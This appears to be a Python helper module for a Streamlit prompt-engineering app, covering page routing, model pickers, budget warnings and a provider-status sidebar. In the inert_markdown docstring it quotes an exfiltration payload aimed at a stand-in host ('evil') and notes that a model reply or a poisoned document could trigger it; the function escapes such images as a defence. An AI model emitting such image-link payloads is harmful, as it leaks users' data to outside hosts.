"""Settings, catalog and provider status for pages, and the shared sidebar."""

from __future__ import annotations

import streamlit as st

from lib.catalog import PROVIDER_LABELS, Catalog, load_catalog
from lib.errors import PromptLabError
from lib.providers import ModelStatus, model_statuses
from lib.settings import Settings, get_settings

# (file, title, icon, what it is for): the router and the Home page's links both read this.
PAGES = [
    ("pages/home.py", "Home", ":material/home:", ""),
    ("pages/chat.py", "Chat", ":material/chat:",
     "stream replies, manage conversations, watch context"),
    ("pages/prompts.py", "Prompts", ":material/edit_note:",
     "versioned templates, preview, edit, diff, labels"),
    ("pages/compare.py", "Compare", ":material/compare:",
     "2-4 variants side by side, votes, win rates"),
    ("pages/documents.py", "Documents", ":material/folder_open:",
     "knowledge bases in Chroma, upload, chunks"),
    ("pages/retrieval.py", "Retrieval", ":material/manage_search:",
     "dense, BM25 and hybrid results side by side"),
    ("pages/tokens.py", "Tokens", ":material/token:",
     "how text turns into tokens, cost and window fill"),
    ("pages/costs.py", "Costs", ":material/payments:",
     "spend, tokens, latency, errors, caching, budgets"),
]


def settings() -> Settings:
    return get_settings()


def catalog() -> Catalog:
    return load_catalog(settings())  # a small TOML parse: cheap, and edits show at once


def statuses(*, check_local: bool = True) -> list[ModelStatus]:
    return model_statuses(catalog(), settings(), check_local=check_local)


def model_label(status: ModelStatus) -> str:
    m = status.model
    mark = "" if status.available else "  (unavailable)"
    return f"{PROVIDER_LABELS.get(m.provider, m.provider)} · {m.label}{mark}"


def model_picker(key: str, *, label: str = "Model", default: str | None = None) -> ModelStatus:
    """A model select box grouped by provider; unavailable models say how to enable them."""
    by_key = {s.model.key: s for s in sorted(statuses(),
                                             key=lambda s: (not s.available, s.model.provider))}
    keys = list(by_key)
    if st.session_state.get(key) not in (None, *keys):
        del st.session_state[key]  # a model that left the catalog
    index = keys.index(default) if default in keys else 0
    choice = by_key[st.selectbox(label, keys, index=index, key=key,
                                 format_func=lambda k: model_label(by_key[k]))]
    if not choice.available:
        st.warning(f"{choice.model.label} is unavailable. {choice.reason}")
    return choice


def inert_markdown(text: str) -> str:
    """Model output and document text as Markdown, minus images: a reply (or a poisoned
    document) could otherwise make the browser fetch ![](https://evil/?leak=...)."""
    return text.replace("![", "!\\[")


def show_error(error: PromptLabError) -> None:
    st.error(str(error), icon=":material/error:")


def budget_banner() -> None:
    """A warning from 80% of any budget, an error at 100%: shown on every page."""
    from lib import budgets
    from lib.ledger import format_usd

    for s in budgets.statuses(settings().db_path):
        if s.fraction >= 1:
            st.error(f"{s.label} is used up ({format_usd(s.used)} of "
                     f"{format_usd(s.limit_micro)}): paid calls are refused; the local model "
                     "still works.", icon=":material/block:")
        elif s.fraction >= budgets.WARN_AT:
            st.warning(f"{s.label} is {s.fraction:.0%} used ({format_usd(s.used)} of "
                       f"{format_usd(s.limit_micro)}).", icon=":material/warning:")


def sidebar_status() -> None:
    """Provider status, shown on every page; never reveals a key."""
    by_provider: dict[str, ModelStatus] = {}
    for s in statuses(check_local=False):
        by_provider.setdefault(s.model.provider, s)
    with st.sidebar.expander("Providers", expanded=False):
        for provider, s in by_provider.items():
            icon = ":material/check_circle:" if s.available else ":material/cancel:"
            st.markdown(f"{icon} **{PROVIDER_LABELS.get(provider, provider)}**")
            if not s.available:
                st.caption(s.reason)
